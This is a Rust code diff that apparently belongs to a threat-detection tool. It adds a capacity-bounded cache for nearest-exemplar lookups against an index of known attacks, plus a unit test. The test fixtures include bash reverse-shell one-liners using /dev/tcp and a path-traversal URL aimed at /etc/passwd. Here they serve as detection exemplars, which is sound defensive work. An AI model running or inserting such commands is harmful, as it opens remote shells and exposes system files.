@@ -179,6 +179,38 @@ impl ThreatIndex for ExactIndex {
     }
 }
 
+/// Nearest exemplars of texts seen lately, so a text that recurs (a service's command line,
+/// a health-check URL: most of them, in real traffic) is embedded and compared once.
+/// Keyed by the kind and a 128-bit hash of the text, so the memory per entry is fixed.
+/// Bounded by its capacity; overflow policy: forget everything and start again.
+pub struct NearestCache {
+    entries: crate::FastMap<(TextKind, u128), Option<Nearest>>,
+    capacity: usize,
+}
+
+impl NearestCache {
+    /// Entries the ML stage keeps (~100 bytes each).
+    pub const DEFAULT_CAPACITY: usize = 16_384;
+
+    pub fn new(capacity: usize) -> Self {
+        Self { entries: crate::FastMap::default(), capacity }
+    }
+
+    /// `index.nearest(kind, &embed(text))`, remembered.
+    pub fn nearest(&mut self, index: &dyn ThreatIndex, kind: TextKind, text: &str) -> Option<Nearest> {
+        let key = (kind, xxhash_rust::xxh3::xxh3_128(text.as_bytes()));
+        if let Some(found) = self.entries.get(&key) {
+            return found.clone();
+        }
+        let found = index.nearest(kind, &embed(text));
+        if self.entries.len() >= self.capacity {
+            self.entries.clear();
+        }
+        self.entries.insert(key, found.clone());
+        found
+    }
+}
+
 /// Similarity at or below which nothing is said; 1.0 is an exact copy.
 pub const SIMILARITY_FLOOR: f32 = 0.5;
 
@@ -191,6 +223,25 @@ pub fn similarity_risk(similarity: f32) -> f64 {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn the_nearest_cache_answers_as_the_index_does_and_stays_bounded() {
+        let exemplar = |id: &str, kind, text: &str| Exemplar { id: id.into(), kind, title: id.into(), text: text.into() };
+        let index = ExactIndex::new(vec![
+            exemplar("rev-shell", TextKind::Command, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+            exemplar("traversal", TextKind::Url, "/../../../../etc/passwd"),
+        ]);
+        let mut cache = NearestCache::new(2);
+        let texts = [(TextKind::Command, "bash -i >& /dev/tcp/10.9.9.9/443 0>&1"), (TextKind::Url, "/index.html"), (TextKind::Command, "ls -la")];
+        for _ in 0..2 {
+            for (kind, text) in texts {
+                assert_eq!(cache.nearest(&index, kind, text), index.nearest(kind, &embed(text)), "{text}");
+                assert!(cache.entries.len() <= 2);
+            }
+        }
+        // The same text as another kind is another question.
+        assert_eq!(cache.nearest(&index, TextKind::Url, texts[0].1), index.nearest(TextKind::Url, &embed(texts[0].1)));
+    }
 
     /// The n-grams as the first version built them (characters collected, each window
     /// copied into a string): [`embed`] must give exactly the same vector, since
